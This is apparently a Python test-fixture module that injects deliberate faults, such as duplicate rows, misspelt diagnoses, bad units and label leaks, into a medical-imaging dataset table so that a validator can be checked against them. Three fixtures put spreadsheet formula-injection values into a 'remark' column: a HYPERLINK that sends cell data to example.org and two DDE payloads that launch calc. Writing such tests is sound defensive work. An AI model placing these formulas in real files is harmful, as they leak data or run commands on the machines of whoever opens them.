"""Faults of the table and of dataset.yaml."""

import re
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

from .fault import Fault, allow
from .good import CASES, DIAGNOSIS, LESIONS, PATIENT, change_table, change_yaml, set_cell

ONE, OTHER = LESIONS[3], LESIONS[8]
FIVE = [case for case in CASES if sum(PATIENT[other] == PATIENT[case] for other in CASES) == 1][:5]
TWICE = next(same for case in CASES if len(same := [c for c in CASES if PATIENT[c] == PATIENT[case]]) > 1)
"""The cases of the first patient with several cases."""
DIAMETER, SPACING = "lesion_diameter_mm", "pixel_spacing_mm"


def row_without_a_name(folder: Path) -> None:
    row = {"patient": "patient_900", "diagnosis": "benign", SPACING: "0.4", "age": "40"}
    change_table(folder, lambda table: pd.concat([table, pd.DataFrame([row])]).fillna(""))


def row_twice(folder: Path) -> None:
    change_table(folder, lambda table: pd.concat([table, table.loc[[ONE]]]))


def row_twice_with_two_diagnoses(folder: Path) -> None:
    change_table(folder, lambda table: pd.concat([table, table.loc[[ONE]].assign(diagnosis="normal")]))


def patient_blank(folder: Path) -> None:
    set_cell(folder, ONE, "patient", "")


def patient_not_available(folder: Path) -> None:
    set_cell(folder, ONE, "patient", "not available")


def _spell_a_patient(folder: Path, spell: Callable[[str], str]) -> None:
    def change(table: pd.DataFrame) -> None:
        table.loc[TWICE[-1], "patient"] = spell(table.loc[TWICE[-1], "patient"])

    change_table(folder, change)


def patient_with_decimals(folder: Path) -> None:
    _spell_a_patient(folder, lambda patient: f"{patient}.0")


def patient_with_a_dash_and_fewer_zeros(folder: Path) -> None:
    _spell_a_patient(folder, lambda patient: re.sub("_0*", "-", patient).upper())


def class_misspelt(folder: Path) -> None:
    set_cell(folder, ONE, "diagnosis", "malignent")


def class_in_another_language(folder: Path) -> None:
    set_cell(folder, ONE, "diagnosis", "bösartig")


def class_in_capitals(folder: Path) -> None:
    set_cell(folder, ONE, "diagnosis", DIAGNOSIS[ONE].capitalize())


def class_with_a_blank(folder: Path) -> None:
    set_cell(folder, ONE, "diagnosis", f"{DIAGNOSIS[ONE][:3]} {DIAGNOSIS[ONE][3:]}.")


def number_with_a_comma(folder: Path) -> None:
    set_cell(folder, ONE, DIAMETER, "12,5")


def number_with_its_unit(folder: Path) -> None:
    set_cell(folder, ONE, DIAMETER, "12 mm")


def number_infinite(folder: Path) -> None:
    set_cell(folder, ONE, DIAMETER, "inf")


def diameter_in_metres(folder: Path) -> None:
    set_cell(folder, ONE, DIAMETER, "0.0125")


def age_of_the_year_of_birth(folder: Path) -> None:
    set_cell(folder, ONE, "age", "1961")


def spacing_zero(folder: Path) -> None:
    set_cell(folder, ONE, SPACING, "0")


def spacing_negative(folder: Path) -> None:
    set_cell(folder, ONE, SPACING, "-0.4")


def spacing_in_words(folder: Path) -> None:
    set_cell(folder, ONE, SPACING, "0.4 mm")


def spacing_in_centimetres(folder: Path) -> None:
    def change(table: pd.DataFrame) -> None:
        table.loc[ONE, SPACING] = f"{float(table.loc[ONE, SPACING]) / 10:.5f}"

    change_table(folder, change)


def spacing_blank(folder: Path) -> None:
    set_cell(folder, ONE, SPACING, "")


def patient_of_five_views(folder: Path) -> None:
    for case in FIVE:
        set_cell(folder, case, "patient", "patient_900")


def frame_in_words(folder: Path) -> None:
    change_table(folder, lambda table: table.assign(frame=["first" if c == ONE else "" for c in CASES]))
    change_yaml(folder, lambda content: content.update(frame="frame"))


def label_not_available(folder: Path) -> None:
    set_cell(folder, ONE, "diagnosis", "not available")


def _remark(folder: Path, cell: str) -> None:
    change_table(folder, lambda table: table.assign(remark=[cell if c == ONE else "" for c in CASES]))


def formula_that_opens_a_page(folder: Path) -> None:
    _remark(folder, '=HYPERLINK("http://example.org/?" & A1, "see here")')


def formula_that_starts_a_program(folder: Path) -> None:
    _remark(folder, "@SUM(1+1)*cmd|' /C calc'!A0")


def formula_after_a_minus(folder: Path) -> None:
    _remark(folder, "-2+3+cmd|' /C calc'!A0")


def class_without_a_case(folder: Path) -> None:
    change_yaml(folder, lambda content: content["columns"]["diagnosis"]["classes"].append("cyst"))


def class_of_two_cases(folder: Path) -> None:
    class_without_a_case(folder)
    for case in (ONE, OTHER):
        set_cell(folder, case, "diagnosis", "cyst")


def diagnosis_in_other_words(folder: Path) -> None:
    words = {"normal": "discharged", "benign": "seen again", "malignant": "operated"}
    change_table(folder, lambda table: table.assign(outcome=table["diagnosis"].map(words)))


def score_that_separates(folder: Path) -> None:
    rng = np.random.default_rng(0)
    starts = {"normal": 0, "benign": 3, "malignant": 6}
    scores = [f"{starts[DIAGNOSIS[case]] + 2 * rng.random():.3f}" for case in CASES]
    change_table(folder, lambda table: table.assign(score=scores))


def patient_not_named(folder: Path) -> None:
    change_yaml(folder, lambda content: content.pop("patient"))


def task_without_its_column(folder: Path) -> None:
    change_yaml(folder, lambda content: content["tasks"][2].update(target="weight_kg"), "config.yaml")


def task_without_a_label(folder: Path) -> None:
    change_table(folder, lambda table: table.assign(**{DIAMETER: ""}))


TABLE_FAULTS = [
    Fault(row_without_a_name, "row-unnamed", words=("row 41 ",), repaired=True),
    Fault(row_twice, "case-repeated", (ONE,), repaired=True),
    Fault(row_twice_with_two_diagnoses, "case-repeated", (ONE,)),
    Fault(patient_blank, "patient-missing", (ONE,)),
    Fault(patient_not_available, "patient-missing", (ONE,)),
    Fault(
        patient_of_five_views, "patient-views", tuple(FIVE), words=("up to 5",), allowed=allow("split-class")
    ),
    *(
        Fault(spell, "patient-spelling", tuple(TWICE), words=("differ in spelling only",), repaired=True)
        for spell in (patient_with_decimals, patient_with_a_dash_and_fewer_zeros)
    ),
    Fault(class_misspelt, "class-unknown", (ONE,), words=("malignent",)),
    Fault(class_in_another_language, "class-unknown", (ONE,), words=("bösartig",)),
    Fault(class_in_capitals, "class-spelling", (ONE,), repaired=True),
    Fault(class_with_a_blank, "class-spelling", (ONE,), repaired=True),
    Fault(number_with_a_comma, "number-invalid", (ONE,), words=("12,5",)),
    Fault(number_with_its_unit, "number-invalid", (ONE,), words=("12 mm",)),
    Fault(number_infinite, "number-invalid", (ONE,)),
    Fault(diameter_in_metres, "number-outlier", (ONE,), words=(DIAMETER,)),
    Fault(age_of_the_year_of_birth, "number-outlier", (ONE,), words=("age",)),
    Fault(spacing_zero, "spacing-invalid", (ONE,)),
    Fault(spacing_negative, "spacing-invalid", (ONE,), allowed=allow("formula")),
    Fault(spacing_in_words, "spacing-invalid", (ONE,)),
    Fault(spacing_in_centimetres, "spacing-outlier", (ONE,)),
    Fault(spacing_blank, "spacing-missing", (ONE,)),
    Fault(frame_in_words, "frame-invalid", (ONE,)),
    Fault(label_not_available, "labels-missing", (ONE,), words=("not available",)),
    Fault(formula_that_opens_a_page, "formula", (ONE,), words=("remark",)),
    Fault(formula_that_starts_a_program, "formula", (ONE,), words=("remark",)),
    Fault(formula_after_a_minus, "formula", (ONE,), words=("remark",)),
    Fault(class_without_a_case, "class-unused", words=("cyst",)),
    Fault(class_of_two_cases, "class-rare", (ONE, OTHER), words=("cyst",), allowed=allow("split-class")),
    Fault(diagnosis_in_other_words, "leak", words=("'outcome' reveals 'diagnosis'",)),
    Fault(score_that_separates, "leak", words=("'score' reveals 'diagnosis'",)),
    Fault(patient_not_named, "no-patient", words=("'patient'",)),
    Fault(task_without_its_column, "task", words=("weight_kg",)),
    Fault(task_without_a_label, "task", words=("lesion_diameter_mm",)),
]
